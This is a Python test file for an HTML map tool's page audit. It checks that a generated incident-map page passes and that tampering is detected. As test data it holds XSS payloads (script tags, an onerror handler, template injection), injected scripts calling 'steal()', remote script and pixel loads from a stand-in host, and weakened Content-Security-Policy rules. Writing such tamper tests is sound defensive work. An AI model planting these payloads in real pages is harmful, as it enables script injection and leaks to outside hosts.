"""The audit of a finished page: quiet on what was written, loud on whatever was done since."""

from __future__ import annotations

import base64
import json
import re
import zlib
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from pages import incident
from typer.testing import CliRunner

from geo.errors import InputError
from geo.publish import INTERNAL
from geo.table import incidents_from_records
from layers.cli.app import app
from layers.web import PageFinding, Tiles, build_map, check_page
from layers.web.content import BLOCKS
from layers.web.markup import hash_source, read_markup

TILES = Tiles("https://tiles.example.org/{z}/{x}/{y}.png", "© Tile people")
HOSTILE = '<script>window.hit=1</script><img src=x onerror="window.hit=1">{{7*7}}'


def _html(**options: Any) -> str:
    rows = incidents_from_records([incident("own:1", title=HOSTILE)])
    wording: dict[str, Any] = {"marking": INTERNAL, "as_of": datetime(2024, 2, 1), **options}
    return build_map(rows, **wording).html


@pytest.fixture(scope="module")
def html() -> str:
    return _html()


def _findings(html: str, folder: Path) -> tuple[PageFinding, ...]:
    file = folder / "map.html"
    file.write_bytes(html.encode())
    return check_page(file).findings


def _rules(html: str, folder: Path) -> set[str]:
    return {item.rule for item in _findings(html, folder)}


def _with_config(html: str, change: Callable[[dict[str, Any]], Any]) -> str:
    """Change what the page says as someone would who knows its format."""
    found = re.search(r'(id="sitmap-config">)([^<]*)', html)
    assert found is not None
    config = json.loads(zlib.decompress(base64.b64decode(found[2]), -15))
    change(config)
    machine = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = base64.b64encode(machine.compress(json.dumps(config).encode()) + machine.flush())
    return html.replace(found[0], found[1] + block.decode())


def test_a_page_as_written_passes_and_says_what_it_is(html: str, tmp_path: Path) -> None:
    file = tmp_path / "map.html"
    file.write_bytes(html.encode())
    audit = check_page(file)
    assert audit.findings == ()
    assert audit.hosts == ()
    assert audit.rows == 1
    assert audit.as_of == "1 Feb 2024"
    assert audit.marking == INTERNAL
    assert any("Natural Earth" in text for text in audit.attributions)
    # the parts are all there is
    assert sum(audit.sizes.values()) == len(html.encode())
    # one title with markup, a handler and a template; shown as typed
    assert audit.traces == {"markup": 1, "event handlers": 1, "templates": 1}


def test_a_page_of_many_rows_passes_too(tmp_path: Path) -> None:
    # texts are packed by 4,096 rows
    rows = [incident(f"own:{number}", title=f"Number {number}") for number in range(9_000)]
    page = build_map(incidents_from_records(rows), marking=INTERNAL, as_of=datetime(2024, 2, 1))
    assert _findings(page.html, tmp_path) == ()


def test_a_page_with_tiles_names_its_host(tmp_path: Path) -> None:
    file = tmp_path / "map.html"
    file.write_bytes(_html(tiles=TILES).encode())
    audit = check_page(file)
    assert audit.findings == ()
    assert audit.hosts == ("https://tiles.example.org",)


def test_every_block_of_a_page_is_known_to_the_audit(html: str) -> None:
    assert tuple(read_markup(html).blocks) == BLOCKS


POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.mark.parametrize(
    ("rule", "tamper"),
    [
        ("policy", lambda page: POLICY.sub("", page)),
        ("policy", lambda page: page.replace("connect-src 'none'", "connect-src *")),
        ("policy", lambda page: page.replace("; connect-src 'none'", "")),
        ("policy", lambda page: page.replace("script-src ", "script-src 'unsafe-inline' ")),
        ("policy", lambda page: page.replace("img-src data:", "img-src https://t.example data:")),
        ("policy", lambda page: page.replace("</head>", POLICY.findall(page)[0] + "</head>")),
        ("policy", lambda page: page.replace("<head>", "<head><script>a</script>", 1)),
        ("policy", lambda page: page.replace("form-action 'none'", "form-action 'none'; x-src *")),
        ("script", lambda page: page.replace("startPage(map);", "startPage(map);fetch('/');")),
        ("script", lambda page: page.replace("</body>", "<script>steal()</script></body>")),
        ("script", lambda page: page.replace("<style>", "<style>b{display:none}", 1)),
        (
            "script",
            lambda page: re.sub(r"(?s)<script>.*?</script>", "", page, count=1),
        ),
        ("request", lambda page: page.replace("</body>", "<img src=//t.example/pixel></body>")),
        ("request", lambda page: page.replace("</body>", "<script src=//t.example/a.js></script>")),
        ("request", lambda page: page.replace("<head>", "<head><link rel=icon href=//t.example>")),
        ("request", lambda page: page.replace("<style>", "<style>@import '//t.example';", 1)),
        (
            "request",
            lambda page: page.replace("<head>", '<head><meta http-equiv=refresh content="0">'),
        ),
        ("markup", lambda page: page.replace("<main", "<main onclick=steal()", 1)),
        ("markup", lambda page: page.replace("</body>", "<a href='javascript:a()'>x</a></body>")),
        ("markup", lambda page: page.replace("</body>", "<p>Another word</p></body>")),
        ("markup", lambda page: page.replace('lang="en"', 'lang="ar"')),
        (
            "markup",
            lambda page: page.replace(
                "</body>", '<script type="text/plain" id="sitmap-more">YQ==</script></body>'
            ),
        ),
        ("data", lambda page: page.replace('id="sitmap-rows">', 'id="sitmap-rows">&lt;', 1)),
        ("data", lambda page: re.sub(r'(id="sitmap-config">)\w+', r"\1AAAA", page)),
        ("attribution", lambda page: page.replace('<footer id="credit"></footer>', "")),
        ("attribution", lambda page: _with_config(page, lambda it: it.update(credit="Me"))),
        ("attribution", lambda page: _with_config(page, lambda it: it["attributions"].pop(0))),
        ("as-of", lambda page: _with_config(page, lambda it: it.pop("as_of"))),
        ("profile", lambda page: _with_config(page, lambda it: it.update(marking=None))),
        ("profile", lambda page: _with_config(page, lambda it: it.update(marking="ours"))),
    ],
)
def test_whatever_was_done_to_a_page_is_found(
    html: str, tmp_path: Path, rule: str, tamper: Callable[[str], str]
) -> None:
    changed = tamper(html)
    assert changed != html
    assert rule in _rules(changed, tmp_path)


def test_a_changed_script_with_a_new_hash_is_still_no_script_of_ours(
    html: str, tmp_path: Path
) -> None:
    old = read_markup(html).scripts[-1]
    new = old + "fetch('https://t.example');"
    changed = html.replace(old, new).replace(hash_source(old), hash_source(new))
    messages = [item.message for item in _findings(changed, tmp_path)]
    assert any("none that this version of sitmap writes" in text for text in messages)
    # the browser would run it: only the comparison finds it
    assert not any("not the one that was hashed" in text for text in messages)


def test_a_tile_host_that_the_policy_does_not_name_is_found(html: str, tmp_path: Path) -> None:
    quiet = _with_config(html, lambda it: it.update(tiles={"url": TILES.url, "attribution": ""}))
    assert {"attribution", "markup"} <= _rules(quiet, tmp_path)


def test_what_is_no_map_of_ours_is_refused(tmp_path: Path) -> None:
    other = tmp_path / "other.html"
    other.write_text("<html><body>Hello</body></html>", encoding="utf-8")
    with pytest.raises(InputError, match="no map page of sitmap"):
        check_page(other)
    other.write_bytes(b"\xff\xfe\x00")
    with pytest.raises(InputError, match="UTF-8"):
        check_page(other)
    with pytest.raises(InputError):
        check_page(tmp_path / "missing.html")


def test_the_command_says_what_a_page_is_and_fails_on_a_changed_one(
    html: str, tmp_path: Path
) -> None:
    file = tmp_path / "map.html"
    file.write_bytes(html.encode())
    good = CliRunner().invoke(app, ["check", str(file)])
    assert good.exit_code == 0
    assert "nothing found" in good.stdout
    for words in ("as of 1 Feb 2024", INTERNAL, "asks for nothing", "code", "base map", "texts"):
        assert words in good.stdout
    file.write_bytes(html.replace("</body>", "<img src=//t.example/p></body>").encode())
    bad = CliRunner().invoke(app, ["check", str(file)])
    assert bad.exit_code == 1
    assert "request: <img> has src: '//t.example/p'" in bad.stdout
    as_json = json.loads(CliRunner().invoke(app, ["check", str(file), "--json"]).stdout)
    assert {item["rule"] for item in as_json["findings"]} == {"request", "markup"}
    assert as_json["hosts"] == ["t.example"]
